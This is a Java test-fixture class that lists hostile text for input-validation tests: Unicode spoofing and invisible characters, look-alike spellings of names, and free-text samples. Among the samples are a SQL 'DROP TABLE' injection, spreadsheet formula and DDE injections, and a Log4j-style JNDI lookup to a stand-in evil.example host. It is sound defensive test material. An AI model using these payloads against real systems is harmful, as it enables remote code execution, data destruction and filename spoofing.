package dev.parry.testkit.generate;

import java.util.List;
import java.util.Objects;

/**
 * Hostile text for tests: characters that make one identifier look like another, free text a store
 * must keep exactly, and spellings of a name that must stay distinct. Fixed lists, not random ones,
 * so every run tries every sample.
 *
 * <pre>{@code
 * for (HostileText.Sample spoof : HostileText.spoofing()) {
 *   assertThrows(IllegalArgumentException.class, () -> FileName.of("invoice" + spoof.text() + ".pdf"), spoof.name());
 * }
 * }</pre>
 */
public final class HostileText {

  /**
   * A named piece of hostile text.
   *
   * @param name what it is, for test names and messages
   * @param text the hostile characters themselves, to put inside a value under test
   */
  public record Sample(String name, String text) {
    /**
     * Validates the sample.
     *
     * @param name what it is, for test names and messages
     * @param text the hostile characters themselves, to put inside a value under test
     * @throws NullPointerException if a component is null
     */
    public Sample {
      Objects.requireNonNull(name, "name");
      Objects.requireNonNull(text, "text");
    }

    @Override
    public String toString() {
      return name;
    }
  }

  private static final List<Sample> SPOOFING =
      List.of(
          new Sample("right-to-left override", "\u202E"),
          new Sample("left-to-right embedding", "\u202A"),
          new Sample("right-to-left isolate", "\u2067"),
          new Sample("pop directional isolate", "\u2069"),
          new Sample("right-to-left mark", "\u200F"),
          new Sample("Arabic letter mark", "\u061C"),
          new Sample("zero-width space", "\u200B"),
          new Sample("zero-width joiner", "\u200D"),
          new Sample("word joiner", "\u2060"),
          new Sample("byte-order mark", "\uFEFF"),
          new Sample("no-break space", "\u00A0"),
          new Sample("figure space", "\u2007"),
          new Sample("narrow no-break space", "\u202F"),
          new Sample("NUL", "\u0000"),
          new Sample("CR LF", "\r\n"),
          new Sample("lone high surrogate", "\uD800"),
          new Sample("lone low surrogate", "\uDFFF"),
          new Sample("Mongolian vowel separator", "\u180E"),
          new Sample("Hangul filler", "\u3164"),
          new Sample("variation selector", "\uFE0F"),
          new Sample("tag character", "\uDB40\uDC41"));

  private static final List<String> FREE_TEXT =
      List.of(
          "plain",
          "",
          "lone high surrogate \uD800 in the middle",
          "lone low surrogate \uDC00",
          "ends on a high surrogate \uDBFF",
          "\uDFFF starts on a low surrogate",
          "surrogates in the wrong order \uDC00\uD800",
          "two high surrogates \uD83D\uD83D",
          "invoice\u202Efdp.exe (right-to-left override)",
          "\u2066isolated\u2069 \u2067rtl\u2069 \u202Aembedded\u202C \u200E\u200F\u061C marks",
          "zero\u200Bwidth\u200Cjoiner\u200Dword\u2060joiner\uFEFFbom",
          "no\u00A0break\u2007figure\u202Fnarrow\u3000ideographic",
          "emoji \uD83D\uDE00 \uD83D\uDC4D\uD83C\uDFFD \uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08 \uD83D\uDC69\u200D\uD83D\uDCBB",
          "combining e\u0301 a\u0308 n\u0303 \u0915\u094D\u0937 stacked Z\u0351\u0352\u0353\u0354\u0355\u0356",
          "right-to-left scripts: \u05E7\u05D5\u05D1\u05E5 \u0645\u0644\u0641",
          "CJK \u6587\u4EF6 \uD840\uDC00 (U+20000)",
          "Hangul filler \u3164 and \u115F\u1160 and \uFFA0",
          "tags \uDB40\uDC01\uDB40\uDC61\uDB40\uDC7F and selector \uDB40\uDD00",
          "noncharacters \uFFFE \uFFFF \uFDD0 \uD83F\uDFFE",
          "the last code point \uDBFF\uDFFF",
          "private use \uE000 \uF8FF, replacement \uFFFD",
          "quotes ' \" ` and backslashes \\ \\\\ \\u0000 \\n",
          "JSON {\"@type\":\"x\",\"a\":[1,null]} and \\\"escaped\\\"",
          "SQL '); DROP TABLE parry_actions; -- and $$ and E'\\x00'",
          "=HYPERLINK(\"http://evil.example\",\"click\")",
          "+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(1+1)",
          "format %s %n %08x {0} ${jndi:ldap://evil.example/a}",
          "Ogham\u1680space, en\u2002quad, soft\u00ADhyphen, grapheme\u034Fjoiner",
          "x".repeat(511) + "\uD83D");

  private static final List<String> NAME_SPELLINGS =
      List.of(
          "jose",
          "jos\u00E9",
          "jose\u0301",
          "JOS\u00C9",
          "jos\u0435",
          "\uFF4A\uFF4F\uFF53\uFF45",
          "stra\u00DFe",
          "strasse",
          "stra\u1E9Ee",
          "\u0130stanbul",
          "i\u0307stanbul",
          "\u0131stanbul",
          "\u212Aey",
          "key",
          "\u03C3\u03C2",
          "\u03A3\u03A3",
          "\uD83D\uDCC4",
          "\uD83D\uDC4D\uD83C\uDFFD",
          "\uD83D\uDC4D",
          "\u6587\u4EF6",
          "\u05E7\u05D5\u05D1\u05E5",
          "\u0645\u0644\u0641",
          "\u0915\u094D\u0937",
          "jos\uD800",
          "jos\uDC00",
          "jos\uDBFF",
          "jos\u202Ee",
          "jos\u200Be",
          "jos\u00A0e",
          "jos\uFEFF");

  private HostileText() {}

  /**
   * {@return one sample of each kind of character that identifiers refuse}: bidirectional controls,
   * invisible characters, odd spaces, control characters, unpaired surrogates and other
   * default-ignorable code points
   */
  public static List<Sample> spoofing() {
    return SPOOFING;
  }

  /**
   * {@return free text a store must answer exactly as given, each at most 512 characters and free
   * of control characters (which free text refuses)}: unpaired surrogates, bidirectional and
   * invisible characters, emoji, combining marks, noncharacters, quotes, backslashes, JSON and SQL,
   * spreadsheet formulas
   */
  public static List<String> freeText() {
    return FREE_TEXT;
  }

  /**
   * {@return spellings of one name that differ only in characters beyond ASCII}: composed and
   * decomposed accents, look-alike letters of other scripts, full-width letters, case, the German
   * sharp s, the Turkish dotted and dotless i, the Kelvin sign, Greek sigmas, emoji with and
   * without a skin tone, other scripts, and spellings that identifiers refuse (unpaired surrogates,
   * an override, a zero-width space, a no-break space, a byte-order mark)
   */
  public static List<String> nameSpellings() {
    return NAME_SPELLINGS;
  }
}
